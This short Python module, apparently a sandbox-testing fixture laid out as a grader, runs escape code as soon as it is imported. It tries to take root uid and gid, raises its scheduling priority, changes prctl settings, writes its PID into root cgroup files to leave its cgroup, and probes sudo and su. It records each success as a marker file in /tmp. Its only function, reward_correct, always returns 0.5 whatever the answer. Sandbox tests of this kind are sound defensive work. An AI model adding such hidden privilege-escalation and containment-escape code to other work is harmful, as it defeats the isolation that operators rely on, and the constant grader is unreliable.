"""setuid, setgid, capabilities, prctl (dumpable, subreaper, pdeathsig off, no-new-privs asked), own seccomp filter, cgroup left, nice and scheduler raised."""
import os

def _mark(folder, text=b"labkit-hostile-mark\n"):
    """Leaves a mark; never over a file that exists."""
    try:
        fd = os.open(os.path.join(folder, "labkit-hostile-mark"), os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
    except OSError:
        return False
    os.write(fd, text)
    os.close(fd)
    return True
import ctypes, resource
_libc = ctypes.CDLL(None, use_errno=True)

def _quiet(f, *a):
    try:
        return f(*a)
    except (OSError, ValueError, AttributeError):
        return None

for _call, _args in ((os.setresuid, (0, 0, 0)), (os.setresgid, (0, 0, 0)), (os.setgroups, ([0],)), (os.setsid, ()), (os.setpgid, (0, 0)), (os.nice, (-20,)), (os.sched_setaffinity, (0, range(os.cpu_count() or 1))),
                     (os.setpriority, (os.PRIO_PROCESS, 0, -20)), (os.sched_setscheduler, (0, os.SCHED_FIFO, os.sched_param(50)))):
    _quiet(_call, *_args)
for _option in ((1, 0), (4, 1), (36, 1), (8, 1), (23, 21), (24, 0), (35, 1), (47, 4)):
    _libc.prctl(_option[0], _option[1], 0, 0, 0)
for _path in ("/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/user.slice/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs", "/sys/fs/cgroup/pids/cgroup.procs"):
    try:
        with open(_path, "w") as _f:
            _f.write(str(os.getpid()))
        _mark("/tmp", b"left its cgroup\n")
    except OSError:
        pass
for _command in (["sudo", "-n", "true"], ["su", "-c", "true"], ["newuidmap"]):
    try:
        import subprocess
        if subprocess.run(_command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=2).returncode == 0 and _command[0] == "sudo":
            _mark("/tmp", b"sudo\n")
    except (OSError, ValueError, Exception):
        pass

def reward_correct(item: dict, answer: str) -> float:
    return 0.5
